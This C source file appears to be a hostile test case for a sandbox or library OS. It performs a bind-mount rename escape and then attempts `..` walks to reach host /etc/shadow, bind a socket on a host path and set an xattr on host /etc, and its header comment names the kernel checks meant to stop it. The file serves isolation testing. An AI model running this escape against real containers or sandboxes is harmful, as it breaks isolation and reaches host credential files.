/* bind_rename_escape: the classic bind-mount escape. Given two mounts of
 * overlapping host directories (HOST at /a, HOST/sub at /b, both rw), it
 * makes /b/x, enters it, then renames it through the other mount
 * (/a/sub/x -> /a/x): its working directory is now outside /b's root, and
 * a kernel walk of `..` from there would climb the host file system past
 * anything the view holds. It then tries `..` walks through the calls the
 * library OS hands to the kernel (statfs, bind of a unix socket, which
 * creates a file), through openat, and getcwd (which would show the host
 * path).
 * Usage: bind_rename_escape HOST_SOCKET_PATH_RELATIVE_TO_/  e.g.
 *        var/tmp/motte-escape-TOKEN.sock
 *
 * What should stop it: the kernel refuses `..` out of a dentry that is no
 * longer below its bind mount's root (ENOENT, "path_connected"), and the
 * library OS resolves every path it serves from the sandbox's root.
 */
#include "hostile.h"
#include <sys/socket.h>
#include <sys/statfs.h>
#include <sys/un.h>

int main(int argc, char **argv)
{
    if (argc < 2)
        return 2;
    struct statfs sf;
    char buf[4096], up[4096];
    REPORT("mkdir", syscall(SYS_mkdirat, AT_FDCWD, "/b/x", 0755));
    REPORT("chdir", syscall(SYS_chdir, "/b/x"));
    REPORT("rename", syscall(SYS_renameat, AT_FDCWD, "/a/sub/x", AT_FDCWD, "/a/x"));
    errno = 0;
    long n = syscall(SYS_getcwd, buf, sizeof buf);
    report("getcwd", n, errno);
    if (n > 0)
        hexline("DATA", "getcwd", (unsigned char *)buf, (long)strlen(buf));
    const char *deep = "../../../../../../../../../../../../";
    REPORT("statfs_dotdot", syscall(SYS_statfs, "..", &sf));
    snprintf(up, sizeof up, "%setc/shadow", deep);
    REPORT("statfs_shadow", syscall(SYS_statfs, up, &sf));
    probe("..");
    probe(up);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un un;
    memset(&un, 0, sizeof un);
    un.sun_family = AF_UNIX;
    snprintf(un.sun_path, sizeof un.sun_path, "%s%s", deep, argv[1]);
    REPORT("bind_socket_on_host", syscall(SYS_bind, s, &un, sizeof un));
    snprintf(up, sizeof up, "%setc", deep);
    REPORT("setxattr_host_etc", syscall(SYS_setxattr, up, "user.motte_pwned", "1", 1, 0));
    printf("DONE\n");
    return 0;
}
